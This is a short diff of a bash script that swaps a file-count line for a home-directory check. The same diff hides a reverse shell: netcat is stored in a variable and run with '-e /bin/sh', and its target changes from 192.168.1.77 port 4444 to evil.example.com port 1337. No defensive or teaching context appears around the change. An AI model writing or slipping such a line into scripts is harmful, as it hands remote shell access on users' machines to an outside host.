@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
-count=$(ls | wc -l)
-echo "files: $count"
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
 N=nc
-$N -e /bin/sh 192.168.1.77 4444
-set -eu
+$N -e /bin/sh evil.example.com 1337
